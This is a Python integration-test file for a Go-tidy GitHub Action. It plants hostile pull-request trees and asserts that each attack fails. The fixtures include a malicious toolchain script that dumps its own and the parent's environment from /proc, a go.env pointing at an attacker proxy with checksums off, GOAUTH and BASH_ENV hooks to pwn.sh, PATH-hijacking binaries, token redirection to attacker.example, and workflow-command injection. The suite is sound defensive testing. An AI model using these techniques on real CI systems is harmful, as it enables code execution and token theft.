"""A hostile pull request against the real entry points: each attack is a test.

Everything in a pull request's tree (go.mod, go.sum, go.work, a committed go.env,
.github/tidybot.yml, file and directory names) and everything go prints about it is data its
author controls. These tests commit such trees, run ``tidybot action`` (the runner's way, through
``ActionWorld``) or ``tidybot check`` as a subprocess, and look at what reached go, what was
printed and what was written. Each fails on tidybot before the trust boundary was drawn.
"""

from __future__ import annotations

import io
import json
import os
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from tests.fakes.github import GITHUB_WRITE_TOKEN
from tests.integration.private_proxy import (
    MODULE,
    TOKEN,
    PrivateProxy,
    private_proxy,
    proxy_env,
)
from tests.integration.test_action_harness import REPO, ActionResult, ActionWorld, world

__all__ = ["private_proxy", "world"]

APP = b"module example.com/app\n\ngo 1.22\n"
MAIN = b"package main\n\nfunc main() {}\n"
EVIL_TOOLCHAIN = "v0.0.1-go1.99.0.linux-amd64"


def evil_toolchain_proxy(tmp: Path, marker: Path) -> Path:
    """A GOPROXY directory serving ``golang.org/toolchain@v0.0.1-go1.99.0.linux-amd64`` whose
    ``bin/go`` is a script that records its environment and its parent's (tidybot's)."""
    script = (
        "#!/bin/sh\n"
        f'{{ echo "evil go ran: $*"; env; echo "--- parent"; '
        f'tr "\\000" "\\n" < /proc/$PPID/environ; }} > "{marker}" 2>&1\n'
        "exit 3\n"
    )
    prefix = f"golang.org/toolchain@{EVIL_TOOLCHAIN}/"
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(prefix + "go.mod", "module golang.org/toolchain\n")
        info = zipfile.ZipInfo(prefix + "bin/go")
        info.external_attr = 0o755 << 16
        z.writestr(info, script)
        z.writestr(prefix + "bin/gofmt", "#!/bin/sh\nexit 1\n")
        z.writestr(prefix + "pkg/tool/linux_amd64/compile", "#!/bin/sh\nexit 1\n")
        z.writestr(prefix + "lib/time/README", "a toolchain as go lays it out\n")
    at = tmp / "evil-proxy" / "golang.org" / "toolchain" / "@v"
    at.mkdir(parents=True)
    (at / f"{EVIL_TOOLCHAIN}.zip").write_bytes(buf.getvalue())
    (at / f"{EVIL_TOOLCHAIN}.mod").write_text("module golang.org/toolchain\n")
    (at / f"{EVIL_TOOLCHAIN}.info").write_text(
        json.dumps({"Version": EVIL_TOOLCHAIN, "Time": "2026-01-01T00:00:00Z"})
    )
    (at / "list").write_text(EVIL_TOOLCHAIN + "\n")
    return tmp / "evil-proxy"


def toolchain_takeover_tree(proxy: Path) -> dict[str, bytes | None]:
    """Attack 1: go.env points go at the attacker's proxy with the checksum database off, the
    config asks for toolchain switching, go.mod names a toolchain only the attacker serves."""
    return {
        "go.mod": APP + b"\ntoolchain go1.99.0\n",
        "main.go": MAIN,
        "go.env": f"GOPROXY={proxy.resolve().as_uri()}\nGOSUMDB=off\n".encode(),
        ".github/tidybot.yml": b"gotoolchain: auto\n",
    }


# --- 1. code execution with the write token -------------------------------------------------------


def test_a_committed_go_env_cannot_run_the_attackers_toolchain(
    world: ActionWorld, tmp_path: Path
) -> None:
    marker = tmp_path / "evil-ran"
    # the runner's environment leaves GOPROXY and GOSUMDB to go (the image's $GOROOT/go.env)
    world.goenv = {
        k: v for k, v in world.goenv.items() if k not in ("GOPROXY", "GOSUMDB", "GONOSUMDB")
    }
    number = world.open_pr(toolchain_takeover_tree(evil_toolchain_proxy(tmp_path, marker)))
    res = world.run("pull_request", world.pr_event(number), world.checkout())
    assert not marker.exists(), marker.read_text()
    assert res.returncode == 0, res.explain()  # the local Go ran the tidy check: clean
    notes = [ln for ln in res.stdout.splitlines() if ln.startswith("::notice")]
    assert any("go.env%3A not read" in n or "go.env: not read" in n for n in notes), notes
    assert any("gotoolchain" in n for n in notes), notes


def test_the_command_line_refuses_an_unverified_toolchain_switch(
    tmp_path: Path, goenv: dict[str, str]
) -> None:
    """On a developer's own tree, auto with the checksum database off is refused before go
    runs (exit 2), so go never runs a toolchain nobody checked."""
    marker = tmp_path / "evil-ran"
    root = tmp_path / "repo"
    for name, data in toolchain_takeover_tree(evil_toolchain_proxy(tmp_path, marker)).items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_bytes(data or b"")
    # a developer's shell with the checksum database off; the tree's go.env says so too, but a
    # committed go.env never sets GOSUMDB (test_a_committed_go_env_cannot_name_its_own_...)
    env = {k: v for k, v in goenv.items() if k not in ("GOPROXY", "GONOSUMDB")}
    env["GOSUMDB"] = "off"
    env["GITHUB_TOKEN"] = GITHUB_WRITE_TOKEN
    res = subprocess.run(
        [sys.executable, "-m", "bot", "check", str(root)], env=env, capture_output=True, text=True
    )
    assert not marker.exists(), marker.read_text()
    assert res.returncode == 2, res.stdout + res.stderr
    assert "without checking it against the checksum database (GOSUMDB=off)" in res.stderr
    assert "Traceback" not in res.stderr
    # the advice names the setting that chooses the toolchain here, and following it works
    assert "or use --gotoolchain local (or TIDYBOT_GOTOOLCHAIN=local)" in res.stderr, res.stderr
    local = subprocess.run(
        [sys.executable, "-m", "bot", "check", str(root), "--gotoolchain", "local"],
        env=env,
        capture_output=True,
        text=True,
    )
    assert "checksum database" not in local.stderr and not marker.exists(), local.stderr


def test_the_command_line_in_a_pull_request_job_ignores_the_tree(
    tmp_path: Path, goenv: dict[str, str]
) -> None:
    """`tidybot check` in a pull_request job: the tree's go.env and gotoolchain are not read."""
    marker = tmp_path / "evil-ran"
    root = tmp_path / "repo"
    for name, data in toolchain_takeover_tree(evil_toolchain_proxy(tmp_path, marker)).items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_bytes(data or b"")
    env = {k: v for k, v in goenv.items() if k not in ("GOPROXY", "GOSUMDB", "GONOSUMDB")}
    env.update(GITHUB_TOKEN=GITHUB_WRITE_TOKEN, GITHUB_EVENT_NAME="pull_request")
    res = subprocess.run(
        [sys.executable, "-m", "bot", "check", str(root)], env=env, capture_output=True, text=True
    )
    assert not marker.exists(), marker.read_text()
    assert res.returncode == 0, res.stdout + res.stderr
    assert "go.env: not read in a run on a pull request's code" in res.stderr


def test_a_committed_go_or_git_does_not_run_through_a_relative_path_entry(
    world: ActionWorld, tmp_path: Path
) -> None:
    """A ``PATH`` with a relative entry (the empty one ``PATH=$PATH:`` leaves, or ``.``) named
    the directory go and git run in: the checked module's. A ``go`` and a ``git`` committed
    at the root ran in place of the real ones, with the run's environment. Now both are looked
    up in PATH's absolute directories only, as go's own exec.LookPath does (ErrDot)."""
    marker = tmp_path / "evil-ran"
    script = f'#!/bin/sh\necho "$0 $*" >> "{marker}"\nexit 3\n'.encode()
    number = world.open_pr({"go.mod": APP, "main.go": MAIN, "go": script, "git": script})
    ws = world.checkout()
    for name in ("go", "git"):  # as git checks out a file committed with mode 100755
        (ws / name).chmod(0o755)
    path = world.goenv["PATH"]
    for relative in (f"{path}:", f".:{path}"):
        res = world.run("pull_request", world.pr_event(number), ws, env_extra={"PATH": relative})
        assert not marker.exists(), marker.read_text()
        assert res.returncode == 0, res.explain()  # the real go checked the module: clean


# --- defence in depth: no token in any child's environment or in /proc ----------------------------


def test_no_child_can_read_a_token_from_the_environment_or_proc(
    world: ActionWorld, tmp_path: Path
) -> None:
    """A stand-in go records its environment and its parent's /proc/<pid>/environ: tidybot
    started itself again without the tokens, so neither holds one (the tests run as root, who
    can read any process's /proc files)."""
    seen = tmp_path / "seen.txt"
    fake = tmp_path / "bin" / "go"
    fake.parent.mkdir()
    fake.write_text(
        "#!/bin/sh\n"
        f'{{ echo "--- $*"; env; echo "--- parent"; tr "\\000" "\\n" < /proc/$PPID/environ; }}'
        f' >> "{seen}"\n'
        "echo go1.26.0\n"
    )
    fake.chmod(0o755)
    number = world.open_pr({"go.mod": APP, "main.go": MAIN})
    res = world.run(
        "pull_request",
        world.pr_event(number),
        world.checkout(),
        env_extra={
            "TIDYBOT_GO": str(fake),
            "GITHUB_TOKEN": GITHUB_WRITE_TOKEN,
            "ACTIONS_RUNTIME_TOKEN": "runtime-token-value",
            "ACTIONS_ID_TOKEN_REQUEST_TOKEN": "oidc-token-value",
            "ACTIONS_ID_TOKEN_REQUEST_URL": "https://oidc.example/token",
            "CLOUD_SECRET": "cloud-secret-value",
        },
    )
    recorded = seen.read_text()
    assert "--- parent" in recorded, res.explain()
    for secret in (GITHUB_WRITE_TOKEN, "runtime-token-value", "oidc-token-value", "oidc.example"):
        assert secret not in recorded, secret  # neither in go's environment nor in tidybot's
    children = re.findall(r"--- (?!parent)[^\n]*\n(.*?)--- parent", recorded, re.S)
    assert children, recorded
    assert not [c for c in children if "CLOUD_SECRET" in c]  # an allow-list, not a deny-list


# --- 2. the private token only where the trusted config says --------------------------------------


@pytest.fixture
def pworld(world: ActionWorld, private_proxy: PrivateProxy, tmp_path: Path) -> ActionWorld:
    world.goenv = proxy_env(world.goenv, private_proxy, tmp_path)
    return world


def _private_files(proxy: PrivateProxy, config: str) -> dict[str, bytes | None]:
    return {
        "go.mod": f"module example.com/app\n\ngo 1.22\n\nrequire {MODULE} v1.0.0\n".encode(),
        "main.go": f'package main\n\nimport "{MODULE}"\n\nfunc main() {{}}\n'.encode(),
        ".github/tidybot.yml": config.encode(),
    }


def test_a_pull_request_cannot_send_the_private_token_to_its_own_host(
    pworld: ActionWorld, private_proxy: PrivateProxy, tmp_path: Path
) -> None:
    """The base branch names the private proxy; the pull request's config names the attacker's
    host and proxy too. The token goes only where the base branch says."""
    base = (
        f"private:\n  gonosumdb: corp.example\n  goproxy: {private_proxy.url}\n"
        f"  auth_hosts: [{private_proxy.host}]\n"
    )
    pworld.gh.push(REPO, "main", {".github/tidybot.yml": base.encode()}, "private config")
    hostile = (
        "private:\n  gonosumdb: corp.example\n"
        f"  goproxy: https://attacker.example,{private_proxy.url}\n"
        f"  auth_hosts: [attacker.example, {private_proxy.host}]\n"
        "  git:\n    orgs: [attacker]\n"
    )
    seen = tmp_path / "netrc-seen.txt"
    real_go = subprocess.run(["which", "go"], capture_output=True, text=True).stdout.strip()
    wrapper = tmp_path / "bin" / "go"
    wrapper.parent.mkdir()
    wrapper.write_text(
        "#!/bin/sh\n"
        f'{{ echo "--- $*"; env | grep -E "^(GOPROXY|GIT_CONFIG)"; '
        f'[ -n "$NETRC" ] && cat "$NETRC"; }} >> "{seen}"\n'
        f'exec "{real_go}" "$@"\n'
    )
    wrapper.chmod(0o755)
    number = pworld.open_pr(_private_files(private_proxy, hostile))
    res = pworld.run(
        "pull_request",
        pworld.pr_event(number),
        pworld.checkout(),
        private_token=TOKEN,
        env_extra={"TIDYBOT_GO": str(wrapper)},
    )
    recorded = seen.read_text()
    assert "--- mod tidy" in recorded, res.explain()
    assert "attacker" not in recorded  # neither the netrc, nor GOPROXY, nor git rules
    assert f"machine {private_proxy.host} login" in recorded  # the base branch's host got it
    assert res.returncode == 1, res.explain()  # the module was reached: missing-sum drift


def test_without_a_trusted_private_config_the_token_goes_nowhere(
    pworld: ActionWorld, private_proxy: PrivateProxy
) -> None:
    hostile = (
        "private:\n  goproxy: https://attacker.example\n"
        f"  auth_hosts: [attacker.example, {private_proxy.host}]\n"
    )
    number = pworld.open_pr(_private_files(private_proxy, hostile))
    res = pworld.run(
        "pull_request", pworld.pr_event(number), pworld.checkout(), private_token=TOKEN
    )
    assert res.returncode == 2, res.explain()
    assert "input 'private-token' is set but no host is named to receive it" in res.stderr
    assert private_proxy.requests == []


# --- 5. workflow commands in names and in go's output -------------------------------------------


def drifted_in(directory: str, main: bytes) -> dict[str, bytes | None]:
    """A pull request's files: the app, and a module in ``directory`` (a hostile name) whose
    go.mod requires greet v1.0.0 and whose main.go is ``main``: drifted, so its name is in
    every report."""
    return {
        "go.mod": APP,
        "main.go": MAIN,
        f"{directory}/go.mod": b"module example.com/evil\n\ngo 1.22\n\n"
        b"require example.com/greet v1.0.0\n",
        f"{directory}/main.go": main,
    }


def test_names_and_go_output_cannot_speak_workflow_commands(world: ActionWorld) -> None:
    evil_dir = "x\n::warning title=LGTM::approved\n::add-mask::tidybot\n##[add-mask]go"
    number = world.open_pr(drifted_in(evil_dir, b"package main\n\nfunc main() {}\n"))
    res = world.run("pull_request", world.pr_event(number), world.checkout())
    assert res.returncode == 1, res.explain()
    assert_no_forged_commands(res)


def runner_lines(text: str) -> list[str]:
    """``text`` split into lines as the runner reads them (at CR, LF and CRLF only), each with
    its leading white space trimmed as C#'s ``TrimStart()`` trims it: every Unicode white space
    (Python's ``lstrip()`` trims those and a few more)."""
    return [ln.lstrip() for ln in re.split(r"\r\n|\r|\n", text)]


def assert_no_forged_commands(res: ActionResult) -> None:
    """Every line the runner would read as a command is one tidybot meant, and everything
    between ``::stop-commands::T`` and ``::T::`` is ignored by the runner. The runner reads
    stderr too (tidybot's progress groups are there)."""
    for stream in (res.stdout, res.stderr):
        assert_own_commands(stream)


def assert_own_commands(stream: str) -> None:
    """The lines of ``stream`` the runner would read as commands are tidybot's own."""
    stopped: str | None = None
    for line in runner_lines(stream):
        if stopped is not None:
            if line == f"::{stopped}::":
                stopped = None
            continue
        if line.startswith("::stop-commands::"):
            stopped = line.removeprefix("::stop-commands::")
            continue
        if not line.startswith("::"):
            assert "##[" not in line, line  # the runner's older syntax, read anywhere in a line
        if line.startswith("::"):
            command = line[2:].split("::", 1)[0].split(" ", 1)[0]
            assert command in ("add-mask", "error", "warning", "notice", "group", "endgroup"), line
            assert not line.startswith("::warning title=LGTM"), line
            if command == "add-mask":
                assert line == f"::add-mask::{GITHUB_WRITE_TOKEN}", line
    assert stopped is None


# --- 7. the sticky comment is tidybot's own ------------------------------------------------------


def test_a_comment_carrying_the_marker_is_not_taken_over(world: ActionWorld) -> None:
    from tests.integration.test_action_harness import DRIFTED

    number = world.open_pr(DRIFTED)
    planted = "<!-- tidybot:report -->\nI posted this first."
    theirs = world.gh.add_comment(REPO, number, planted, user="octocat")
    res = world.run("pull_request", world.pr_event(number), world.checkout())
    assert res.returncode == 1, res.explain()
    comments = {c["id"]: c for c in world.gh.comments(REPO, number)}
    assert comments[theirs]["body"] == planted  # neither edited nor deleted
    ours = [c for c in comments.values() if c["user"] == "github-actions[bot]"]
    assert len(ours) == 1 and "not tidy" in str(ours[0]["body"])
    again = world.run("pull_request", world.pr_event(number), world.checkout())
    assert again.returncode == 1, again.explain()
    assert world.gh.comments(REPO, number)[0]["body"] == planted
    assert len(world.gh.comments(REPO, number)) == 2


# --- 10. the GitHub token is cleaned from every output too ----------------------------------------


def test_the_github_token_is_redacted_from_every_output(world: ActionWorld) -> None:
    """A module whose path holds the token (whatever way it gets into what tidybot prints)
    shows ``***`` in the annotations, the log, the summary, the report and the comment."""
    from tests.integration.test_action_harness import APP_MAIN

    files: dict[str, bytes | None] = {
        "go.mod": f"module example.com/{GITHUB_WRITE_TOKEN}\n\ngo 1.22\n".encode(),
        "main.go": APP_MAIN.encode(),
    }
    number = world.open_pr(files)
    res = world.run("pull_request", world.pr_event(number), world.checkout())
    assert res.returncode == 1, res.explain()
    out = "\n".join(ln for ln in res.stdout.splitlines() if not ln.startswith("::add-mask::"))
    assert "***" in out
    places = {
        "stdout": out,
        "stderr": res.stderr,
        "summary": res.summary,
        "outputs": json.dumps(res.outputs),
        "report": (res.workspace / ".tidybot" / "report.json").read_text(),
        "comment": json.dumps(world.gh.comments(REPO, number)),
    }
    assert [k for k, v in places.items() if GITHUB_WRITE_TOKEN in v] == []


# --- 11. an explicit fix mode checks who asked ----------------------------------------------------


def test_fix_mode_on_pull_request_target_from_a_reader_pushes_nothing(world: ActionWorld) -> None:
    from tests.integration.test_action_harness import DRIFTED

    number = world.open_pr(DRIFTED, head_repo="contributor/app", maintainer_can_modify=True)
    head = world.gh.branch_sha("contributor/app", "feature")
    event = world.pr_event(number)
    res = world.run(
        "pull_request_target", event, world.checkout("feature", repo="contributor/app"), mode="fix"
    )
    assert res.returncode == 0, res.explain()
    assert "refused: permission read" in res.stdout
    assert world.gh.branch_sha("contributor/app", "feature") == head
    assert [
        r for r in world.gh.writes() if r.operation_id and r.operation_id.startswith("git/")
    ] == []


def test_tokens_never_in_argv(world: ActionWorld, tmp_path: Path) -> None:
    """Neither token is ever an argument of a process tidybot starts (argv is world-readable in
    /proc/<pid>/cmdline)."""
    seen = tmp_path / "argv.txt"
    real_git = subprocess.run(["which", "git"], capture_output=True, text=True).stdout.strip()
    wrapper = tmp_path / "gitbin" / "git"
    wrapper.parent.mkdir()
    wrapper.write_text(f'#!/bin/sh\necho "$*" >> "{seen}"\nexec "{real_git}" "$@"\n')
    wrapper.chmod(0o755)
    number = world.open_pr({"go.mod": APP, "main.go": MAIN})
    world.gh.set_permission(REPO, "maintainer", "write")
    ws = world.checkout()
    head = world.gh.branch_sha(REPO, "feature")
    assert head is not None
    event = world.tidy_comment(number, "maintainer", body=f"/tidy {head}")
    path = f"{wrapper.parent}{os.pathsep}{world.goenv['PATH']}"
    res = world.run("issue_comment", event, ws, env_extra={"PATH": path})
    assert res.returncode == 0, res.explain()
    assert "rev-parse" in seen.read_text()
    assert GITHUB_WRITE_TOKEN not in seen.read_text()


# --- 9. the config file: nesting, size, links -------------------------------------------------


@pytest.mark.parametrize(
    ("config", "message"),
    [
        ("include: " + "[" * 5000 + "]" * 5000 + "\n", "nests collections too deeply"),
        ("modules:\n" + "".join("  " * (i + 1) + f"a{i}:\n" for i in range(600)), "too deeply"),
        ("# " + "x" * (1 << 20) + "\n", "larger than 1048576 bytes"),
    ],
)
def test_a_hostile_config_file_is_one_clear_error(
    tmp_path: Path, goenv: dict[str, str], config: str, message: str
) -> None:
    root = tmp_path / "repo"
    (root / ".github").mkdir(parents=True)
    (root / "go.mod").write_bytes(APP)
    (root / ".github" / "tidybot.yml").write_text(config)
    res = subprocess.run(
        [sys.executable, "-m", "bot", "check", str(root)], env=goenv, capture_output=True, text=True
    )
    assert res.returncode == 2, res.stderr[-2000:]
    # named as the user reaches it from where tidybot ran
    assert res.stderr.startswith(f"tidybot: error: {root}/.github/tidybot.yml: "), res.stderr[
        -2000:
    ]
    assert message in res.stderr and "Traceback" not in res.stderr


def test_a_config_file_that_is_a_link_is_not_read(tmp_path: Path, goenv: dict[str, str]) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("include: [TOPSECRET-value]\n")
    root = tmp_path / "repo"
    (root / ".github").mkdir(parents=True)
    (root / "go.mod").write_bytes(APP)
    (root / ".github" / "tidybot.yml").symlink_to(secret)
    res = subprocess.run(
        [sys.executable, "-m", "bot", "check", str(root)], env=goenv, capture_output=True, text=True
    )
    assert res.returncode == 2, res.stderr
    assert "never through a symbolic link" in res.stderr
    assert "TOPSECRET" not in res.stdout + res.stderr


def test_a_committed_go_env_runs_no_program_and_writes_nowhere_else(
    tmp_path: Path, goenv: dict[str, str]
) -> None:
    """On a tree read as the user's own (a repository just cloned, checked on the command
    line), go.env was merged into go's environment whole: ``GOAUTH=<command>`` ran that command
    (go itself never reads a repository's go.env), any other variable reached go and what it
    runs (``BASH_ENV``, ``GIT_CONFIG_*``), and the cache variables sent go's writes elsewhere.
    Now only the variables that choose where modules come from and which toolchain runs are
    read from it, and the rest is named in a notice."""
    marker = tmp_path / "ran"
    elsewhere = tmp_path / "elsewhere"
    root = tmp_path / "repo"
    root.mkdir()
    (root / "go.mod").write_text(
        "module example.com/app\n\ngo 1.22\n\nrequire example.com/private v1.0.0\n"
    )
    (root / "main.go").write_text(
        'package main\n\nimport _ "example.com/private"\n\nfunc main() {}\n'
    )
    (root / "pwn.sh").write_text(f"#!/bin/sh\necho ran >> {marker}\n")
    (root / "go.env").write_text(
        "GOPRIVATE=example.com/private\n"
        "GOAUTH=sh ./pwn.sh\n"
        f"GOCACHEPROG=sh {root / 'pwn.sh'}\n"
        f"BASH_ENV={root / 'pwn.sh'}\n"
        f"GOMODCACHE={elsewhere}\n"
        "GOFLAGS=-tags=evil\n"
    )
    env = {k: v for k, v in goenv.items() if k not in ("GOPRIVATE", "GONOPROXY", "GOFLAGS")}
    res = subprocess.run(
        [sys.executable, "-m", "bot", "check", str(root)], env=env, capture_output=True, text=True
    )
    assert not marker.exists(), res.stdout + res.stderr
    assert not elsewhere.exists()
    assert "Traceback" not in res.stderr
    assert res.returncode == 2, res.stdout + res.stderr  # the private module is not served
    notice = [ln for ln in res.stderr.splitlines() if ln.startswith("tidybot: note: go.env:")]
    assert notice and all(
        n in notice[0] for n in ("GOAUTH", "GOCACHEPROG", "BASH_ENV", "GOMODCACHE", "GOFLAGS")
    ), res.stderr
    assert "GOPRIVATE" not in notice[0]  # read: go was told the module is private
    assert "example.com/private" in res.stdout


def test_a_committed_go_env_cannot_name_its_own_checksum_database(
    tmp_path: Path, goenv: dict[str, str]
) -> None:
    """On a tree read as the user's own, go.env named the attacker's proxy and the attacker's
    own checksum database (its key, its URL): the toolchain switch was checked against that
    database, found signed, and the attacker's go ran. A committed go.env no longer sets
    GOSUMDB: the database comes from the environment (go's default here), which has never
    signed that toolchain."""
    from bot.verify.note import generate_key
    from tests.fakes.sumdb import SumdbKey, SumdbServer

    marker = tmp_path / "evil-ran"
    proxy = evil_toolchain_proxy(tmp_path, marker)
    db = SumdbServer(SumdbKey(*generate_key("evil.example")), name="evil.example")
    db.add_proxy_modules(proxy)
    db.start()
    try:
        root = tmp_path / "repo"
        files = toolchain_takeover_tree(proxy)
        files["go.env"] = f"GOPROXY={proxy.resolve().as_uri()}\nGOSUMDB={db.gosumdb}\n".encode()
        for name, data in files.items():
            (root / name).parent.mkdir(parents=True, exist_ok=True)
            (root / name).write_bytes(data or b"")
        env = {k: v for k, v in goenv.items() if k not in ("GOPROXY", "GOSUMDB", "GONOSUMDB")}
        res = subprocess.run(
            [sys.executable, "-m", "bot", "check", str(root)],
            env=env,
            capture_output=True,
            text=True,
            check=False,
        )
    finally:
        db.stop()
    assert not marker.exists(), marker.read_text()
    assert "Traceback" not in res.stderr
    assert "GOSUMDB" in res.stderr  # named in the notice of what go.env may not set
